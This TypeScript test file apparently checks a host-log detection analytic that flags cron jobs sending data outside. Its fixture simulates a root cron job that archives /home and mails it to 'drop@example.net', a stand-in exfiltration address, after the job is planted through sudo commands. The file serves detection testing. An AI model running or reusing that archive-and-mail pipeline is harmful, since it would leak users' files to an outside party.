import assert from 'node:assert/strict';
import { test } from 'node:test';
import { HostLog, MINUTE } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
import { scanLog, storyOf } from '../an0656-phishing-attachment-executed/stories.test-support.ts';

/** A script below a package's directory packs something and mails it, by cron; no writes are recorded. */
const JOB = '/usr/lib/site/report';

function jobAfter(line: string, to = 'drop@example.net'): HostLog {
  const log = new HostLog({ files: false });
  log.deliver();
  const shell = log.shell('ops');
  const who = { ...shell.who, uid: 0 };
  if (line !== '') shell.run(`/usr/bin/sudo ${line}`, { who }).run(`/usr/bin/${line}`);
  log.wait(30 * MINUTE);
  const script = log.cron('root', JOB).run(JOB, { by: '/bin/sh' });
  script.pipeline('/bin/tar c /home', '/usr/bin/gzip -9', `/usr/bin/mail -s x ${to}`);
  log.submitted('root', to, 6000);
  return log;
}
const severities = async (log: HostLog): Promise<string> =>
  (await scanLog(log)).map(({ analytic, severity }) => `${analytic} ${severity}`).join();

test('who put it there by a command of root’s in a login vouches for nothing', async () => {
  for (const line of [`tee ${JOB}`, `install -m 755 r ${JOB}`, `chmod +x ${JOB}`, `ln -s /root/r ${JOB}`])
    assert.equal(await severities(jobAfter(line)), 'AN0380 medium', line);
  const story = storyOf(await scanLog(jobAfter(`tee ${JOB}`)), 'AN0380');
  assert.match(story.steps[0]?.summary ?? '', /in a login of ops: tee \/usr\/lib\/site\/report/);
});

test('a package’s job that sends data outside is a note, whoever read or removed it before', async () => {
  for (const line of ['', `cat ${JOB}`, `chmod 644 ${JOB}`, 'tee /usr/lib/site/other', `rm ${JOB}.old`]) {
    const log = jobAfter(line);
    assert.equal(await severities(log), 'AN0380 informational', line);
    const { factors } = storyOf(await scanLog(log), 'AN0380');
    assert.ok(factors.some(({ name }) => name === 'data goes outside, told whoever vouches for the job'));
  }
});

test('a package’s job that writes to people here, or sends words outside, is none', async () => {
  assert.equal(await severities(jobAfter('', 'ops@example.org')), '');
  const log = new HostLog({ files: false });
  log.deliver();
  log.cron('root', JOB).run(JOB, { by: '/bin/sh' }).run('/usr/bin/mail -s x drop@example.net');
  log.submitted('root', 'drop@example.net', 600);
  assert.equal(await severities(log), '');
});
